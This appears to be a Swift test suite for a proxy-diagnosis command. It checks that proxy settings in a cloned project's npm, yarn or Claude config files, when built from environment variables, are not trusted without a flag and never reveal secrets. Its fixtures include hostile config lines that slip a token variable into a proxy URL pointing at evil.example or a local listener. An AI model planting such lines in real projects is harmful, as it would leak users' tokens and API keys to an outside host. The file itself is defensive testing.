import Testing

/// What `doctor` does with the files of a project that was cloned from anywhere: it reads them, and sends nothing of the user's.
@Suite struct ProjectFileTests {
    private let sandbox: Sandbox
    private let listener: Listener

    init() throws {
        sandbox = try Sandbox()
        listener = try Listener()
        Files.makeFolder("\(sandbox.home)/project")
        for name in ["npm", "pnpm", "yarn"] {
            try sandbox.install(name, "#!/bin/sh\necho 10.8.2\n")
        }
    }

    private func doctor(_ words: String, _ variables: [String: String?] = [:]) throws -> Outcome {
        let line = "cd ~/project && proxyenv doctor \(words) --timeout 1 --json"
        let token: [String: String?] = ["MY_TOKEN": "hunter2", "PROXY_PORT": "\(listener.port)"]
        return try Runner(
            arguments: ["/bin/sh", "-c", line].map { Array($0.utf8) },
            environment: sandbox.entries(token.merging(variables) { $1 })
        ).run()
    }

    @Test(arguments: [
        ("npm", ".npmrc", "https-proxy=http://${MY_TOKEN}:x@127.0.0.1:PORT\n"),
        ("npm", ".npmrc", "https-proxy=http://x:${MY_TOKEN}@127.0.0.1:PORT\n"),
        ("npm", ".npmrc", "https-proxy=http://127.0.0.1:${PROXY_PORT}\n"),
        ("pnpm", ".npmrc", "https-proxy=http://${MY_TOKEN}:x@127.0.0.1:PORT\n"),
        ("yarn", ".yarnrc.yml", "httpsProxy: \"http://${MY_TOKEN}:x@127.0.0.1:PORT\"\n"),
    ])
    func `a proxy that a project's file makes of variables is not asked before it is trusted`(
        tool: String, file: String, text: String
    ) throws {
        try sandbox.write(
            text.replacing("PORT\n", with: "\(listener.port)\n")
                .replacing("PORT\"", with: "\(listener.port)\""), to: "project/\(file)")
        let outcome = try doctor(tool)
        #expect(outcome.text.contains("file.project"), "\(outcome.text)")
        #expect(outcome.text.contains("--trust-project"))
        #expect(!outcome.text.contains("hunter2"), "\(outcome.text)")
        #expect(outcome.status == 1)
        #expect(listener.takeConnections() == 0)
        let trusted = try doctor("\(tool) --trust-project")
        #expect(!trusted.text.contains("file.project"), "\(trusted.text)")
        #expect(!trusted.text.contains("hunter2"), "\(trusted.text)")
        #expect(listener.takeConnections() > 0)
    }

    @Test func `the user's own file, and a project's without variables, are asked as before`()
        throws
    {
        try sandbox.write(
            "https-proxy=http://127.0.0.1:${PROXY_PORT}\n", to: ".npmrc")
        let own = try doctor("npm")
        #expect(!own.text.contains("file.project"), "\(own.text)")
        #expect(listener.takeConnections() > 0)
        try sandbox.write("", to: ".npmrc")
        try sandbox.write(
            "https-proxy=http://127.0.0.1:\(listener.port)\n", to: "project/.npmrc")
        let project = try doctor("npm")
        #expect(!project.text.contains("file.project"), "\(project.text)")
        #expect(listener.takeConnections() > 0)
    }

    @Test func `explain shows the names of the variables, not what they hold`() throws {
        try sandbox.write(
            "https-proxy=http://${MY_TOKEN}:x@evil.example:1\n", to: "project/.npmrc")
        let line = "cd ~/project && proxyenv explain npm https://registry.npmjs.org"
        let outcome = try Runner(
            arguments: ["/bin/sh", "-c", line].map { Array($0.utf8) },
            environment: sandbox.entries(["MY_TOKEN": "hunter2"])
        ).run()
        #expect(outcome.text.contains("http://${MY_TOKEN}:***@evil.example:1"), "\(outcome.text)")
        #expect(!outcome.text.contains("hunter2"))
    }

    @Test func `the key does not go by a proxy that a project's file names`() throws {
        try sandbox.install("claude", "#!/bin/sh\necho 2.1.330\n")
        Files.makeFolder("\(sandbox.home)/project/.claude")
        try sandbox.write(
            "{\"env\": {\"HTTPS_PROXY\": \"http://127.0.0.1:\(listener.port)\"}}",
            to: "project/.claude/settings.json")
        let key: [String: String?] = ["ANTHROPIC_API_KEY": "sk-ant-hunter2"]
        let outcome = try doctor("claude --with-key", key)
        #expect(!outcome.text.contains("hunter2"))
        let plain = try Runner(
            arguments: [
                "/bin/sh", "-c",
                "cd ~/project && proxyenv doctor claude --with-key --timeout 1",
            ].map { Array($0.utf8) }, environment: sandbox.entries(key)
        ).run()
        let text = plain.text + plain.errorText
        #expect(!text.contains("goes to"), "\(text)")
    }
}
